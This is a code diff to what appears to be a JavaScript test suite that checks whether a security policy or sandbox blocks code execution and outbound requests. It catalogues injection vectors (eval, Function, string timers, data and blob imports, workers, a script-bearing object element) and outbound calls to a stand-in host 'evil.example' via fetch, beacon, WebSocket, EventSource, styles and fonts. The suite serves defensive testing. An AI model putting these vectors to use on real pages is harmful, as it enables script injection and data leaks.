@@ -24,9 +24,9 @@ const blobOf = (text, type) => URL.createObjectURL(new Blob([text], { type }))
 const named = (name) => Reflect.get(globalThis, name)
 
 /** What throws was refused, which is what is asked for. */
-const tried = (act) => {
+const tried = async (act) => {
   try {
-    act()
+    await act()
   } catch (error) {
     if (!(error instanceof Error)) throw error
   }
@@ -61,8 +61,8 @@ const ways = {
   eval: (name) => tried(() => named('eval')(run(name))),
   'function of text': (name) => tried(() => Reflect.construct(named('Function'), [run(name)])()),
   'timer of text': (name) => tried(() => named('setTimeout')(run(name), 0)),
-  'import of data': (name) => import(`data:text/javascript,${run(name)}`).catch(() => undefined),
-  'import of a blob': (name) => import(blobOf(run(name), 'text/javascript')).catch(() => undefined),
+  'import of data': (name) => tried(() => import(`data:text/javascript,${run(name)}`)),
+  'import of a blob': (name) => tried(() => import(blobOf(run(name), 'text/javascript'))),
   'worker of a blob': (name) => tried(() => new Worker(blobOf('postMessage(1)', 'text/javascript')).addEventListener('message', () => globalThis.ran.push(name))), // prettier-ignore
   'worker of data': (name) => tried(() => new Worker('data:text/javascript,postMessage(1)').addEventListener('message', () => globalThis.ran.push(name))), // prettier-ignore
   object: (name) => element('object', { data: `data:text/html,<script>parent.postMessage('${name}','*')</script>` }),
@@ -70,7 +70,7 @@ const ways = {
   'remote style': () => element('link', { rel: 'stylesheet', href: `${evil}/style.css` }),
   'remote import of a style': () => element('style', {}, `@import url(${evil}/import.css);`),
   'remote font': () => element('style', {}, `@font-face{font-family:evil;src:url(${evil}/font.woff2)} body{font-family:evil}`), // prettier-ignore
-  'remote fetch': () => fetch(`${evil}/fetch`, { mode: 'no-cors' }).catch(() => undefined),
+  'remote fetch': () => tried(() => fetch(`${evil}/fetch`, { mode: 'no-cors' })),
   'remote beacon': () => tried(() => navigator.sendBeacon(`${evil}/beacon`, 'x')),
   'remote socket': () => tried(() => new WebSocket('wss://evil.example/socket')),
   'remote event source': () => tried(() => new EventSource(`${evil}/events`)),
